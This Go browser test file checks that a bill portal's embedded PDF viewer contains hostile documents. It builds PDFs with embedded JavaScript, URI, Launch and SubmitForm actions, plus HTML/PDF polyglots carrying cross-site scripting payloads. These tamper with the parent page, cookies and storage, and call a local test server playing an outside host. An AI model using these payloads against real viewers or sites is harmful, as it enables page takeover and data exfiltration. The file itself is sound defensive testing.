//go:build browser

package app_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"

	"billportal/internal/sandbox"
)

// storage is what pages have stored in the browser.
const storage = `JSON.stringify([localStorage, sessionStorage])`

// attack is a document that tries to reach out of itself.
type attack struct {
	name  string
	body  []byte
	shows bool // it is a PDF that browsers show
	runs  bool // the viewer runs its script to the end, which then says so
}

// attacks are documents that the API could send and that pass for PDFs. They aim
// at the page around them and at addresses of the portal and of a stranger.
func attacks(portal, stranger string) []attack {
	pdf := func(name, action string) attack { return attack{name: name, body: pinkPDF(action), shows: true} }
	scripted := func(name, source string) attack {
		return attack{name: name, body: pinkPDF(script("try{" + source + `}catch(e){} app.alert("ran");`)), shows: true, runs: true}
	}
	html := strings.NewReplacer("PORTAL", portal, "STRANGER", stranger).Replace(`<!DOCTYPE html><title>owned</title>
<script>parent.document.title='owned';parent.document.body.innerHTML='owned';document.cookie='owned=1';localStorage.owned=1;sessionStorage.owned=1;
open('STRANGER/script');fetch('STRANGER/fetch');fetch('PORTAL/owned');top.location='STRANGER/top'</script>
<meta http-equiv="refresh" content="0;url=STRANGER/refresh"><base href="STRANGER/"><img src="STRANGER/img" onerror="top.document.title='owned'">
<link rel="stylesheet" href="STRANGER/css"><iframe src="STRANGER/frame"></iframe><object data="PORTAL/owned"></object><svg onload="top.location='STRANGER/svg'"></svg>`)
	return []attack{
		scripted("a script that walks out of the document", `this.parent.document.title="owned";top.document.body.innerHTML="owned";window.open("`+stranger+`/open");`+
			`document.cookie="owned=1";localStorage.owned=1;fetch("`+stranger+`/fetch");new XMLHttpRequest().open("GET","`+portal+`/owned");`),
		scripted("a script that sends forms", `try{this.submitForm({cURL:"`+portal+`/owned",cSubmitAs:"HTML"})}catch(e){} this.submitForm("`+stranger+`/submit");`),
		scripted("a script that leaves for addresses", `for(f of [()=>app.launchURL("`+stranger+`/launch",true),()=>this.getURL("`+stranger+`/get"),`+
			`()=>Net.HTTP.request({cVerb:"GET",cURL:"`+stranger+`/http"}),()=>SOAP.request({cURL:"`+stranger+`/soap"}),()=>app.launchURL("`+stranger+`/here",false)])try{f()}catch(e){}`),
		pdf("an action that leaves for an address", "<</S/URI/URI("+stranger+"/uri)>>"),
		pdf("an action that runs a script in the page", "<</S/URI/URI(javascript:top.document.title='owned')>>"),
		pdf("an action that sends a form", "<</S/SubmitForm/F<</FS/URL/F("+stranger+"/submit)>>/Flags 4>>"),
		pdf("an action that launches", "<</S/Launch/F("+stranger+"/launch)/NewWindow true>>"),
		{name: "HTML in disguise", body: []byte("%PDF-1.7\n" + html + "\n%%EOF\n")},
		{name: "a PDF that is HTML as well", shows: true,
			body: []byte(strings.Replace(string(pinkPDF("<</S/GoTo/D[3 0 R/Fit]>>")), "%PDF-1.7\n", "%PDF-1.7\n%"+strings.ReplaceAll(html, "\n", " ")+"\n", 1))},
	}
}

// TestHostileDocumentsCannotTouchThePage_F3_case32 opens each in the page of its
// bill and in a window of its own.
func TestHostileDocumentsCannotTouchThePage_F3_case32(t *testing.T) {
	p := handWorked(t)
	asked := make(chan string, 100)
	stranger := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { asked <- r.Method + " " + r.URL.String() }))
	defer stranger.Close()
	list := attacks(p.url, stranger.URL)
	bills := elenasBills(func(b *sandbox.Bill) bool { return b.Type == sandbox.TypeInvoice })[:len(list)]
	w := startChromium(t).window(t, p.portal, true)
	ran := make(chan string, 100)
	if err := chromedp.Listen(w.ctx, func(event any) {
		if e, ok := event.(*page.EventJavascriptDialogOpening); ok {
			go func() {
				if err := call(w.ctx, page.HandleJavaScriptDialog, page.HandleJavaScriptDialogParams{Accept: true}); err == nil {
					ran <- e.Message
				}
			}()
		}
	}); err != nil {
		t.Fatal(err)
	}
	w.signIn(sandbox.SubjectEmployee)
	for i, a := range list {
		p.sends(bills[i], a.body)
		t.Run(a.name, func(t *testing.T) {
			w.within(t)
			w.find(bills[i])
			address, title, stored, cookies := w.read(`location.href`), w.read(`document.title`), w.read(storage), w.cookies()
			document := w.read(`document.querySelector('iframe').src`)
			for _, place := range []string{address, document} {
				if place == document {
					w.open(strings.TrimPrefix(document, p.url))
				}
				w.opens(a, place == address, ran)
				w.expect(`location.href`, place)
				if place == address {
					w.expect(`document.title`, title)
					w.expect(`document.documentElement.outerHTML.includes('owned')`, "false")
					w.expect(storage, stored)
				}
				if windows := w.windows(); windows != 1 {
					t.Errorf("there are %d windows", windows)
				}
				if got := w.cookies(); !slices.Equal(got, cookies) {
					t.Errorf("the cookies are %v instead of %v", got, cookies)
				}
			}
			p.expectNoReport(t)
			if strings.Contains(p.log.String(), `"status":404`) {
				t.Errorf("the portal was asked for something that no page asks for:\n%s", p.log)
			}
			select {
			case address := <-asked:
				t.Errorf("the stranger was asked: %s", address)
			default:
			}
		})
	}
}

// opens waits until the viewer has done with a document whatever it does.
func (w *tab) opens(a attack, framed bool, ran <-chan string) {
	w.t.Helper()
	if framed {
		w.read(`document.querySelector('iframe').scrollIntoView({behavior: 'instant', block: 'start'})`)
	}
	await(w.t, "the viewer has opened "+a.name, func() (bool, error) {
		targets, err := chromedp.Targets(w.ctx)
		return slices.ContainsFunc(targets, func(info *target.Info) bool {
			return strings.HasPrefix(info.URL, "chrome-extension://") && info.BrowserContextID == chromedp.FromContext(w.ctx).BrowserContextID
		}), err
	})
	if a.runs {
		await(w.t, "the script of "+a.name+" has run", func() (bool, error) {
			select {
			case message := <-ran:
				return message == "ran", fmt.Errorf("it says %s", message)
			default:
				return false, nil
			}
		})
	}
	// Twice the same picture: the viewer has come to rest.
	var before float64
	await(w.t, "the viewer shows "+a.name, func() (bool, error) {
		picture, err := w.picture()
		if err != nil {
			return false, err
		}
		now := share(picture, pink)
		rests := now == before && (now > 5 || !a.shows)
		before = now
		return rests, fmt.Errorf("%.1f %% of the window is the document", now)
	})
}

// cookies are the portal's in this browser.
func (w *tab) cookies() []string {
	w.t.Helper()
	got, err := chromedp.Call(w.ctx, network.GetCookies, network.GetCookiesParams{URLs: []string{w.portal.url}})
	if err != nil {
		w.t.Fatal(err)
	}
	var list []string
	for _, c := range got.Cookies {
		list = append(list, c.Name+"="+c.Value)
	}
	slices.Sort(list)
	return list
}

// windows counts what this person's browser has open.
func (w *tab) windows() (n int) {
	w.t.Helper()
	targets, err := chromedp.Targets(w.ctx)
	if err != nil {
		w.t.Fatal(err)
	}
	for _, info := range targets {
		if info.Type == "page" && info.BrowserContextID == chromedp.FromContext(w.ctx).BrowserContextID {
			n++
		}
	}
	return n
}
